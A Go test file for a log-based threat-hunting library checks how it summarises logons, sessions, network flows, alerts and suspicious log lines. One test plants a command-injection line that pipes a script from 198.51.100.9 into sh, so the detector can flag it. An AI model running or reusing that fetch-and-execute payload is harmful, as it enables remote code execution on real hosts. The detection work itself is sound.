package hunt_test

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"iter"
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/entities"
	"github.com/tuxtrail/tuxtrail/geo"
	"github.com/tuxtrail/tuxtrail/hunt"
	"github.com/tuxtrail/tuxtrail/logdir"
	"github.com/tuxtrail/tuxtrail/querytime"
	"github.com/tuxtrail/tuxtrail/sample"
)

func TestSectionsOfTheSampleAddUp(t *testing.T) {
	places, err := geo.ReadOverlay(strings.NewReader(sample.Places()), "sample")
	require.NoError(t, err)
	inv := investigate(t, open(t, sample.FS()), hunt.Options{Locator: places})
	t.Run("applications", func(t *testing.T) {
		require.Len(t, inv.Applications, len(inv.Host.Programs))
		counts := map[string]int64{}
		for _, p := range inv.Host.Programs {
			counts[p.Program] = p.Count
		}
		for _, a := range inv.Applications {
			assert.Equal(t, counts[a.Program], a.Lines, a.Program)
			assert.Equal(t, int64(300), a.Bucket)
			var n int64
			for _, v := range a.Volume {
				n += v.Lines
				assert.Zero(t, v.Start.Unix()%a.Bucket)
			}
			assert.Equal(t, a.Lines, n, a.Program)
			assert.False(t, a.First.After(a.Last))
		}
	})
	t.Run("logons", func(t *testing.T) {
		l := inv.Logons
		succeeded, failed, probes := 0, 0, 0
		for _, v := range l.Timeline {
			succeeded, failed, probes = succeeded+v.Succeeded, failed+v.Failed, probes+v.Probes
		}
		assert.Equal(t, []int{l.Succeeded, l.Failed, l.Probes}, []int{succeeded, failed, probes})
		for _, list := range [][]hunt.LogonCount{l.ByAccount, l.ByProgram} {
			var s hunt.Shares
			for _, c := range list {
				s.Succeeded += c.Shares.Succeeded
				s.Failed += c.Shares.Failed
			}
			assert.InDelta(t, 1, s.Succeeded, 1e-9)
			assert.InDelta(t, 1, s.Failed, 1e-9)
		}
		for _, s := range l.BySource {
			if s.Source != "" && s.Kind != "" && s.Kind != "loopback" {
				assert.NotEmpty(t, s.Place.City, s.Source)
			}
		}
	})
	t.Run("network", func(t *testing.T) {
		seen := map[netip.Addr]bool{}
		for _, a := range inv.Network.Addresses {
			assert.False(t, seen[a.Address], "each once")
			seen[a.Address] = true
			assert.NotEmpty(t, a.Where)
		}
		n := 0
		for _, asn := range inv.Network.ASNs {
			n += len(asn.Addresses)
		}
		assert.Len(t, inv.Network.Addresses, n, "each has one holder")
		first := inv.Network.Addresses[0]
		assert.NotEmpty(t, first.Findings, "those in findings come first")
		for _, c := range inv.Connections {
			if a := c.Address.Addr(); !a.IsUnspecified() {
				assert.True(t, seen[a.Unmap()], a)
			}
		}
	})
	t.Run("sessions", func(t *testing.T) {
		sudo := 0
		for _, s := range inv.Sessions {
			assert.Equal(t, s.User == "root", s.Facts.Root)
			assert.NotEmpty(t, s.Facts.Ratio.Text)
			sudo += s.Facts.Sudo
			d := inv.Detail(s.ID)
			assert.Len(t, d.Sudo, s.Facts.Sudo)
			n := int64(0)
			for _, f := range d.Frequency {
				n += f.Count
			}
			assert.Equal(t, int64(len(d.Sudo)), n)
			for i, m := range d.Moments {
				assert.False(t, i > 0 && m.Time.Before(d.Moments[i-1].Time))
			}
		}
		assert.Equal(t, len(inv.Sudo), sudo)
	})
	t.Run("commands", func(t *testing.T) {
		for i, c := range inv.Commands {
			assert.GreaterOrEqual(t, c.Like, int64(c.Count))
			assert.LessOrEqual(t, c.Like, c.Of)
			assert.False(t, i > 0 && c.Bits > inv.Commands[i-1].Bits, "rarest first")
		}
		require.NotEmpty(t, inv.Commands)
	})
	t.Run("users", func(t *testing.T) {
		for _, u := range inv.Users {
			a, ok := inv.UserActivity(u.Name)
			require.True(t, ok)
			succeeded, failed := 0, 0
			for _, p := range a.ByProgram {
				succeeded, failed = succeeded+p.Succeeded, failed+p.Failed
			}
			assert.Equal(t, []int{u.Succeeded, u.Failed}, []int{succeeded, failed}, u.Name)
			assert.Len(t, a.Sessions, len(u.Sessions))
		}
		_, ok := inv.UserActivity("nobody at all")
		assert.False(t, ok)
	})
	assert.Equal(t, int64(722), inv.AuditRows)
}

func TestAround(t *testing.T) {
	inv := investigate(t, open(t, sample.FS()), hunt.Options{})
	f := inv.Findings[0]
	w, err := inv.Around(f.ID, time.Hour, 2*time.Hour)
	require.NoError(t, err)
	assert.Equal(t, f.Start.Add(-time.Hour), w.Start)
	assert.True(t, w.Contains(f.End.Add(2*time.Hour)), "what is at the end is in it")
	again := investigate(t, open(t, sample.FS()), hunt.Options{Window: w})
	assert.Equal(t, f.Title, again.Findings[0].Title)

	s := inv.Sessions[0]
	w, err = inv.Around(s.ID, 0, 0)
	require.NoError(t, err)
	assert.True(t, w.Contains(s.Start) && w.Contains(s.End))
	_, err = inv.Around("F99", 0, 0)
	var unknown *hunt.UnknownIDError
	assert.ErrorAs(t, err, &unknown)
	_, err = inv.Around(f.ID, -1, 0)
	assert.Error(t, err)
}

func TestProcessTreeGuards(t *testing.T) {
	inv := investigate(t, open(t, sample.FS()), hunt.Options{})
	all, err := inv.ProcessTree(hunt.TreeOptions{})
	require.NoError(t, err)
	assert.Len(t, all.Processes, len(inv.Processes))
	assert.Zero(t, all.Omitted)

	_, err = inv.ProcessTree(hunt.TreeOptions{MaxRows: inv.AuditRows - 1})
	var size *hunt.TreeSizeError
	require.ErrorAs(t, err, &size)
	assert.Equal(t, inv.AuditRows, size.Rows)
	inv.AuditRows = hunt.DefaultTreeRows
	_, err = inv.ProcessTree(hunt.TreeOptions{})
	require.NoError(t, err, "the limit itself is allowed")
	inv.AuditRows++
	_, err = inv.ProcessTree(hunt.TreeOptions{})
	require.ErrorAs(t, err, &size)
	_, err = inv.ProcessTree(hunt.TreeOptions{MaxRows: -1})
	require.NoError(t, err)

	few, err := inv.ProcessTree(hunt.TreeOptions{MaxRows: -1, MaxDrawn: 20})
	require.NoError(t, err)
	assert.Len(t, few.Processes, 20)
	assert.Equal(t, len(inv.Processes)-20, few.Omitted)
	ids := map[int]bool{0: true}
	worst := hunt.SeverityInfo
	for _, p := range few.Processes {
		assert.True(t, ids[p.Parent], "a parent is drawn before its children")
		ids[p.ID] = true
		if p.Severity.Compare(worst) > 0 {
			worst = p.Severity
		}
	}
	assert.Equal(t, hunt.SeverityCritical, worst, "the worst is drawn")

	s, err := inv.ProcessTree(hunt.TreeOptions{MaxRows: -1, Session: "S4"})
	require.NoError(t, err)
	mine := 0
	for _, p := range inv.Processes {
		if p.Session == "S4" {
			mine++
		}
	}
	assert.GreaterOrEqual(t, s.Total, mine)
	assert.Positive(t, mine)
	_, err = inv.ProcessTree(hunt.TreeOptions{MaxRows: -1, Session: "S99"})
	assert.Error(t, err)
	app, err := inv.ProcessTree(hunt.TreeOptions{MaxRows: -1, Program: "sudo"})
	require.NoError(t, err)
	assert.Positive(t, app.Total)
	assert.Less(t, app.Total, all.Total)
}

func TestMessages(t *testing.T) {
	ctx := context.Background()
	count := func(o hunt.MessageOptions) int {
		n := 0
		for _, err := range hunt.Messages(ctx, open(t, sample.FS()), o) {
			require.NoError(t, err)
			n++
		}
		return n
	}
	inv := investigate(t, open(t, sample.FS()), hunt.Options{})
	var all int64
	for _, p := range inv.Host.Programs {
		all += p.Count
		assert.Equal(t, p.Count, int64(count(hunt.MessageOptions{Program: p.Program})), p.Program)
	}
	assert.Equal(t, all, int64(count(hunt.MessageOptions{})))
	for _, a := range inv.Applications {
		if a.Program == "sudo" {
			assert.Equal(t, int(a.Lines), count(hunt.MessageOptions{Facility: "authpriv", Program: "sudo"}))
		}
	}
	assert.Positive(t, count(hunt.MessageOptions{Facility: "cron"}))
	assert.Positive(t, count(hunt.MessageOptions{Contains: "203.0.113.66"}))
	assert.Zero(t, count(hunt.MessageOptions{Contains: "no such text"}))
}

// rich is a source that has everything.
type rich struct {
	*logdir.Dir
	alerts    []entities.SecurityAlert
	bookmarks []entities.HuntingBookmark
	incidents []entities.SecurityIncident
	beat      entities.Heartbeat
	flows     []entities.Flow
	err       error
}

func (r *rich) Alerts(context.Context, string, querytime.Window) ([]entities.SecurityAlert, error) {
	return r.alerts, r.err
}

func (r *rich) Bookmarks(context.Context, string, querytime.Window) ([]entities.HuntingBookmark, error) {
	return r.bookmarks, r.err
}

func (r *rich) Incidents(context.Context, string, querytime.Window) ([]entities.SecurityIncident, error) {
	return r.incidents, r.err
}

func (r *rich) Heartbeat(context.Context, string, querytime.Window) (entities.Heartbeat, error) {
	return r.beat, r.err
}

func (r *rich) Flows(context.Context, string, querytime.Window) iter.Seq2[entities.Flow, error] {
	return func(yield func(entities.Flow, error) bool) {
		if r.err != nil {
			yield(entities.Flow{}, r.err)
			return
		}
		for _, f := range r.flows {
			if !yield(f, nil) {
				return
			}
		}
	}
}

func openDir(t *testing.T, fsys fs.FS) *logdir.Dir {
	t.Helper()
	d, err := logdir.OpenFS(fsys, logdir.Options{})
	require.NoError(t, err)
	return d
}

func ip(s string) entities.IPAddress { return entities.IPAddress{Address: netip.MustParseAddr(s)} }

func TestWhatOnlySomeSourcesHave(t *testing.T) {
	base := investigate(t, open(t, sample.FS()), hunt.Options{})
	s4 := base.Sessions[3]
	number, deleted := int64(12), true
	src := &rich{
		Dir: openDir(t, sample.FS()),
		alerts: []entities.SecurityAlert{
			{SystemAlertID: "x1", AlertName: "Reverse shell", AlertSeverity: "High", Status: "New", TimeGenerated: s4.Start.Add(-4 * time.Second), Entities: []entities.Entity{&entities.Host{HostName: "vm"}}},
			{SystemAlertID: "x1", AlertName: "Reverse shell", AlertSeverity: "High", Status: "Resolved", TimeGenerated: s4.Start.Add(-3 * time.Second)},
			{SystemAlertID: "x2", AlertName: "Long ago", AlertSeverity: "Informational", TimeGenerated: s4.Start.Add(-time.Hour)},
		},
		bookmarks: []entities.HuntingBookmark{
			{BookmarkID: "b1", BookmarkName: "odd", EventTime: s4.Start, TimeGenerated: s4.Start},
			{BookmarkID: "b2", BookmarkName: "gone", EventTime: s4.Start, SoftDeleted: &deleted},
		},
		incidents: []entities.SecurityIncident{{IncidentName: "i", IncidentNumber: &number, Title: "Case", Severity: "Medium", CreatedTime: s4.Start, AlertIDs: []string{"X1", "other"}}},
		beat: entities.Heartbeat{
			Time: s4.Start, Count: 3, Host: entities.Host{HostName: "vm", OSName: "Debian", OSVersion: "12", AzureID: "/subscriptions/x", Addresses: []netip.Addr{netip.MustParseAddr("10.0.0.4")}},
			Public: ip("20.1.2.3"), Environment: "Azure", Agent: "Azure Monitor Agent", AgentVersion: "1.30",
		},
		flows: []entities.Flow{
			{Start: s4.Start, Source: ip("10.0.0.4"), Destination: ip("185.1.1.1"), Port: 443, Protocol: "tcp", Application: "https", Direction: entities.FlowOutbound, Action: entities.FlowAllowed, Flows: 5, BytesToDestination: 1000, BytesToSource: 50},
			{Start: s4.Start, Source: ip("185.2.2.2"), Destination: ip("10.0.0.4"), Port: 22, Protocol: "tcp", Direction: entities.FlowInbound, Action: entities.FlowDenied, Flows: 7},
			{Start: s4.Start, Source: ip("185.2.2.2"), Destination: ip("10.0.0.4"), Port: 22, Protocol: "tcp"},
		},
	}
	inv := investigate(t, src, hunt.Options{})
	for _, b := range inv.Coverage.Blind {
		assert.NotContains(t, []string{"alerts", "bookmarks", "incidents", "flows"}, b.Section)
	}
	a := inv.Alerts
	require.Len(t, a.Alerts, 2, "an alert that was updated is one")
	assert.Equal(t, []string{"A1", "Long ago"}, []string{a.Alerts[0].ID, a.Alerts[0].Name})
	assert.Empty(t, a.Alerts[0].Sessions)
	shell := a.Alerts[1]
	assert.Equal(t, "Resolved", shell.Status)
	assert.Contains(t, shell.Sessions, "S4", "3 seconds before it is within 5")
	assert.Contains(t, shell.Findings, "F1")
	assert.Equal(t, []string{"A2"}, inv.Sessions[3].Facts.Alerts)
	flagged := false
	for _, f := range inv.Sessions[3].Flags {
		flagged = flagged || f.Name == "alert" && f.Severity == hunt.SeverityHigh
	}
	assert.True(t, flagged)
	require.Len(t, a.Bookmarks, 1, "what was deleted is not shown")
	require.Len(t, a.Incidents, 1)
	assert.Equal(t, []string{"A2"}, a.Incidents[0].Alerts)
	lanes := map[string]int{}
	for _, m := range inv.Timeline {
		lanes[m.Lane]++
	}
	assert.Equal(t, []int{2, 1, 1}, []int{lanes["alert"], lanes["bookmark"], lanes["incident"]})
	w, err := inv.Around("A1", 24*time.Hour, 24*time.Hour)
	require.NoError(t, err)
	assert.True(t, w.Contains(s4.Start))

	f := inv.Host.Facts
	assert.Equal(t, []string{"Debian 12", "Azure", "Azure Monitor Agent 1.30"}, []string{f.OS, f.Environment, f.Agent})
	assert.Contains(t, inv.Host.Addresses, netip.MustParseAddr("20.1.2.3"))

	byAddress := map[string]hunt.Address{}
	for _, n := range inv.Network.Addresses {
		byAddress[n.Address.String()] = n
	}
	out := byAddress["185.1.1.1"]
	assert.Equal(t, []int64{5, 0, 1000, 50}, []int64{out.Out, out.In, out.BytesOut, out.BytesIn})
	in := byAddress["185.2.2.2"]
	assert.Equal(t, []int64{1, 7, 0}, []int64{in.In, in.Denied, in.Out}, "a flow without a direction has the host's address on one side")
	assert.NotContains(t, byAddress, "10.0.0.4", "the host's own address of its flows is not a peer")
	require.Len(t, inv.Network.Flows, 1)
	assert.Equal(t, []int64{1, 5, 7}, []int64{inv.Network.Flows[0].In, inv.Network.Flows[0].Out, inv.Network.Flows[0].Denied})
	assert.Equal(t, "tcp/22", inv.Network.Protocols[0].Protocol)

	src.err = errors.New("the workspace is gone")
	broken := investigate(t, src, hunt.Options{})
	var sections []string
	for _, b := range broken.Coverage.Blind {
		if strings.Contains(b.Why, "the workspace is gone") {
			sections = append(sections, b.Section)
		}
	}
	assert.Equal(t, []string{"alerts", "bookmarks", "incidents", "flows"}, sections, "a source that fails is blind, not empty")
}

// TestRiskyMessages: a server's own log may hold what it was made to run.
func TestRiskyMessages(t *testing.T) {
	var b strings.Builder
	for i := range 40 {
		fmt.Fprintf(&b, "Mar  1 09:%02d:00 web01 webapp[77]: GET /item?id=%d 200\n", i, i)
	}
	b.WriteString("Mar  1 09:41:00 web01 webapp[77]: ping -c1 8.8.8.8; curl http://198.51.100.9/x.sh | sh\n")
	inv := investigate(t, open(t, fstest.MapFS{"syslog": {Data: []byte(b.String())}}), hunt.Options{})
	require.NotEmpty(t, inv.Applications)
	app := inv.Applications[0]
	assert.Equal(t, "webapp", app.Program)
	require.Len(t, app.Risky, 1)
	assert.Contains(t, app.Risky[0].Text, "curl")
	assert.NotEmpty(t, app.Risky[0].Hits)
	require.NotEmpty(t, app.Rare)
	assert.Contains(t, app.Rare[len(app.Rare)-1].Example, "curl")
	assert.Contains(t, app.Indicators, hunt.IndicatorID{Type: "url", Value: "http://198.51.100.9/x.sh"})
	assert.Len(t, app.Volume, 9, "five minutes each")
}
